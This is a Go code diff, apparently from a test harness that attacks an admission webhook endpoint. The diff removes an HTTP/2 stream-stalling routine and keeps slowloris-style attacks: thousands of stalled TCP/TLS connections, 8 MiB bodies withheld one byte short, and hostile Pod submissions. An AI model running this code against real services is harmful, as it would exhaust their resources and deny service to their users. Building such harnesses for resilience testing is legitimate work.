@@ -8,14 +8,10 @@ import (
 	"io"
 	"net"
 	"net/http"
-	"strconv"
 	"strings"
 	"sync"
 	"sync/atomic"
 	"time"
-
-	"golang.org/x/net/http2"
-	"golang.org/x/net/http2/hpack"
 )
 
 // Attack is what somebody does who reaches the port.
@@ -27,22 +23,19 @@ type Attack struct {
 	next atomic.Int64
 
 	// What was done.
-	Connections, Streams  atomic.Int64
+	Connections           atomic.Int64
 	bodies, pods, refused atomic.Int64
 }
 
 func (a *Attack) String() string {
-	return fmt.Sprintf("%d stalled connections, %d stalled streams, %d stalled bodies of 8 MiB, %d hostile Pods, of which %d were refused",
-		a.Connections.Load(), a.Streams.Load(), a.bodies.Load(), a.pods.Load(), a.refused.Load())
+	return fmt.Sprintf("%d stalled connections, %d stalled bodies of 8 MiB, %d hostile Pods, of which %d were refused",
+		a.Connections.Load(), a.bodies.Load(), a.pods.Load(), a.refused.Load())
 }
 
 // Begin attacks until ctx ends, with so many of each kind at a time.
 func (a *Attack) Begin(ctx context.Context) {
 	for i := range Long(5000, 1000) {
 		a.repeat(ctx, 20*time.Second, func() { a.Stall(ctx, i%len(StallPoints)) })
-	}
-	for i := range Long(200, 40) {
-		a.repeat(ctx, 5*time.Second, func() { a.StallStreams(ctx, 100, i%2 == 0) })
 	}
 	for range Long(64, 16) {
 		a.repeat(ctx, 5*time.Second, func() { a.stallBody(ctx) })
@@ -77,12 +70,12 @@ func (a *Attack) dial(ctx context.Context) (net.Conn, error) {
 	return conn, err
 }
 
-func (a *Attack) dialTLS(ctx context.Context, protocol string) (*tls.Conn, error) {
+func (a *Attack) dialTLS(ctx context.Context) (*tls.Conn, error) {
 	conn, err := a.dial(ctx)
 	if err != nil {
 		return nil, err
 	}
-	secure := tls.Client(conn, &tls.Config{InsecureSkipVerify: true, NextProtos: []string{protocol}})
+	secure := tls.Client(conn, &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"http/1.1"}})
 	if err := secure.HandshakeContext(ctx); err != nil {
 		_ = conn.Close()
 		return nil, err
@@ -107,7 +100,7 @@ func (a *Attack) Stall(ctx context.Context, point int) {
 	if point < 2 {
 		conn, err = a.dial(ctx)
 	} else {
-		conn, err = a.dialTLS(ctx, "http/1.1")
+		conn, err = a.dialTLS(ctx)
 	}
 	if err != nil {
 		return
@@ -123,53 +116,9 @@ func (a *Attack) Stall(ctx context.Context, point int) {
 	wait(conn)
 }
 
-// StallStreams opens an HTTP/2 connection, and sends the header and the first byte of
-// a request on each of its streams, if known after a complete admission.
-func (a *Attack) StallStreams(ctx context.Context, streams uint32, known bool) {
-	conn, err := a.dialTLS(ctx, "h2")
-	if err != nil {
-		return
-	}
-	if _, err := io.WriteString(conn, http2.ClientPreface); err != nil {
-		return
-	}
-	framer := http2.NewFramer(conn, conn)
-	if framer.WriteSettings() != nil || framer.WriteSettingsAck() != nil {
-		return
-	}
-	var block bytes.Buffer
-	encoder := hpack.NewEncoder(&block)
-	small := HostilePod("{}", 1)
-	for i := range streams {
-		block.Reset()
-		length, data, end := "200000", "{", false
-		if i == 0 && known {
-			length, data, end = strconv.Itoa(len(small)), small, true
-		}
-		for _, field := range [][2]string{
-			{":method", "POST"},
-			{":scheme", "https"},
-			{":authority", a.Address},
-			{":path", a.Path},
-			{"content-type", "application/json"},
-			{"content-length", length},
-		} {
-			if err := encoder.WriteField(hpack.HeaderField{Name: field[0], Value: field[1]}); err != nil {
-				return
-			}
-		}
-		if framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 2*i + 1, BlockFragment: block.Bytes(), EndHeaders: true}) != nil ||
-			framer.WriteData(2*i+1, end, []byte(data)) != nil {
-			break
-		}
-		a.Streams.Add(1)
-	}
-	wait(conn)
-}
-
 // stallBody sends a body of 8 MiB except its last byte.
 func (a *Attack) stallBody(ctx context.Context) {
-	conn, err := a.dialTLS(ctx, "http/1.1")
+	conn, err := a.dialTLS(ctx)
 	if err != nil {
 		return
 	}
@@ -183,7 +132,7 @@ func (a *Attack) stallBody(ctx context.Context) {
 // send sends a small review, so that the connection has completed an admission, and
 // then a hostile one.
 func (a *Attack) send(ctx context.Context, body string) {
-	conn, err := a.dialTLS(ctx, "http/1.1")
+	conn, err := a.dialTLS(ctx)
 	if err != nil {
 		return
 	}
